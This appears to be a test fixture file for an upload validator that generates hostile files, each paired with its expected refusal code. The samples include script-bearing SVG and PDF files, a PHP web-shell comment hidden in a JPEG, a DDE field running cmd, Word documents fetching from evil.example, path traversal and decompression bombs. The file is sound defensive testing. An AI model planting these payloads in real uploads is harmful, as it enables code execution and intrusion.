import { deflateSync } from 'node:zlib';
import { PDFName, PDFString, type PDFDocument } from '@cantoo/pdf-lib';
import { strToU8, zipSync } from 'fflate';
import { mostFileBytes, type FileRefusal } from '@eldorado/rules/pqrs-files';
import { exampleDocx, exampleImage, examplePdf, relation, words } from './exampleFiles.ts';

type Hostile = readonly [what: string, refusal: FileRefusal, make: () => Buffer | Promise<Buffer>];

const script = '<script>alert(1)</script>';
const svg = `<svg xmlns="http://www.w3.org/2000/svg">${script}</svg>`;
const archive = () => Buffer.from(zipSync({ 'a.class': strToU8('code') }));
const joined = (...parts: (Buffer | string)[]) =>
  Buffer.concat(parts.map((part) => (typeof part === 'string' ? Buffer.from(part) : part)));
const catalogHas = (key: string, value: Record<string, unknown>) => (document: PDFDocument) =>
  document.catalog.set(PDFName.of(key), document.context.obj(value as never));

/** A JPEG with a comment right after its beginning. */
const commented = async (words: string) => {
  const image = await exampleImage('jpeg');
  const length = Buffer.alloc(2);
  length.writeUInt16BE(words.length + 2);
  return joined(image.subarray(0, 2), Buffer.from([0xff, 0xfe]), length, words, image.subarray(2));
};

/** A PNG whose header says another size than it has. */
async function grown(width: number, height: number): Promise<Buffer> {
  const image = await exampleImage('png');
  image.writeUInt32BE(width, 16);
  image.writeUInt32BE(height, 20);
  return image;
}

/** A PDF with an object stream that is 400 MB of blanks, as much as whoever looks at it may take in all. */
export function packedBomb(): Buffer {
  const packed = deflateSync(Buffer.alloc(400 * 1024 * 1024, ' '), { level: 9 });
  const head = `%PDF-1.7\n1 0 obj<</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length ${packed.length}>>stream\n`;
  return joined(head, packed, '\nendstream endobj\ntrailer<</Root 1 0 R>>\n%%EOF');
}

/** What a stranger may try, with what it is refused for. */
export const hostileFiles: readonly Hostile[] = [
  ['nothing', 'file-empty', () => Buffer.alloc(0)],
  ['more than 5 MB', 'file-too-large', () => Buffer.alloc(mostFileBytes + 1)],
  ['an SVG with a script', 'file-type', () => Buffer.from(svg)],
  ['a page', 'file-type', () => Buffer.from(`<!doctype html><html>${script}</html>`)],
  ['a program', 'file-type', () => joined('MZ', Buffer.alloc(200), 'PE\0\0')],
  ['a GIF that is a script', 'file-type', () => Buffer.from('GIF89a/*;*/=0;alert(1)//')],
  ['an archive', 'file-type', archive],
  [
    'an old Word document',
    'file-type',
    () => Buffer.from('d0cf11e0a1b11ae1'.padEnd(1_024, '0'), 'hex'),
  ],
  [
    'a photo that is an archive',
    'file-two-kinds',
    async () => joined(await exampleImage('jpeg'), archive()),
  ],
  ['a photo with PHP in its comment', 'file-two-kinds', () => commented('<?php system($_GET[0]);')],
  ['a photo with a page in its comment', 'file-two-kinds', () => commented(`<html>${script}`)],
  ['a photo that is a PDF', 'file-two-kinds', () => commented('%PDF-1.4 1 0 obj')],
  ['a PNG of 30,000 by 30,000 pixels', 'image-too-large', () => grown(30_000, 30_000)],
  [
    'half a photo',
    'file-broken',
    async () => (await exampleImage('jpeg', 900, 900)).subarray(0, 4_000),
  ],
  ['a PNG that claims more than it has', 'file-broken', () => grown(600, 400)],
  [
    'a PDF with a script',
    'pdf-active',
    () => examplePdf((one) => one.addJavaScript('a', 'app.alert(1)'), false),
  ],
  [
    'a PDF with a packed script',
    'pdf-active',
    () => examplePdf((one) => one.addJavaScript('a', 'app.alert(1)')),
  ],
  [
    'a PDF with a script by codes',
    'pdf-active',
    async () => {
      const plain = await examplePdf((one) => one.addJavaScript('a', 'app.alert(1)'), false);
      return Buffer.from(
        plain.toString('latin1').replaceAll('/JavaScript', '/J#61vaScript'),
        'latin1',
      );
    },
  ],
  [
    'a PDF that starts a program',
    'pdf-active',
    () => examplePdf(catalogHas('OpenAction', { S: 'Launch', F: PDFString.of('cmd.exe') })),
  ],
  [
    'a PDF that opens a file of the network',
    'pdf-active',
    () => examplePdf(catalogHas('OpenAction', { S: 'GoToR', F: PDFString.of('\\\\evil\\a') })),
  ],
  [
    'a PDF with a file in it',
    'pdf-embedded',
    () => examplePdf((one) => one.attach(Buffer.from('MZ'), 'a.exe')),
  ],
  [
    'a PDF with a password',
    'file-locked',
    async () => {
      const plain = (await examplePdf(undefined, false)).toString('latin1');
      return Buffer.from(plain.replace('trailer\n<<', 'trailer\n<<\n/Encrypt 9 0 R'), 'latin1');
    },
  ],
  ['a PDF that is an archive', 'file-two-kinds', async () => joined(await examplePdf(), archive())],
  [
    'a PDF that is a page',
    'file-two-kinds',
    async () => joined(await examplePdf(), `\n<html>${script}`),
  ],
  [
    'a PDF with something behind its end',
    'file-broken',
    async () => joined(await examplePdf(), 'alert(1)'),
  ],
  ['words that say they are a PDF', 'file-broken', () => Buffer.from('%PDF-1.7\nhello\n%%EOF')],
  [
    'a Word document with macros',
    'docx-macro',
    () => exampleDocx({ 'word/vbaProject.bin': 'macro' }),
  ],
  [
    'a Word document of the kind that has macros',
    'docx-macro',
    () => exampleDocx({ 'word/vbaData.xml': '<a/>' }),
  ],
  [
    'a Word document that starts a program',
    'docx-macro',
    () =>
      exampleDocx({
        'word/document.xml': words(
          '<w:instrText>DDEA</w:instrText><w:instrText>UTO cmd "/k calc"</w:instrText>',
        ),
      }),
  ],
  [
    'a Word document with a program in it',
    'docx-embedded',
    () => exampleDocx({ 'word/embeddings/oleObject1.bin': 'MZ' }),
  ],
  [
    'a Word document that fetches a template',
    'docx-remote',
    () =>
      exampleDocx({
        'word/_rels/settings.xml.rels': relation('attachedTemplate', 'http://evil.example/a.dotm'),
      }),
  ],
  [
    'a Word document that fetches a picture',
    'docx-remote',
    () =>
      exampleDocx({
        'word/document.xml': words(
          '<w:instrText>INCLUDEPICTURE "http://evil.example/a.png"</w:instrText>',
        ),
      }),
  ],
  [
    'a Word document with a name that leads elsewhere',
    'file-broken',
    () => exampleDocx({ '../../evil.xml': '<a/>' }),
  ],
  [
    'a Word document with entities',
    'file-broken',
    () =>
      exampleDocx({
        'word/document.xml': '<!DOCTYPE a [<!ENTITY b "bbbb"><!ENTITY c "&b;&b;">]><a>&c;</a>',
      }),
  ],
  [
    'a Word document that unpacks to 70 MB',
    'file-bomb',
    () => exampleDocx({ 'word/a.xml': ' '.repeat(70 * 1024 * 1024) }),
  ],
];
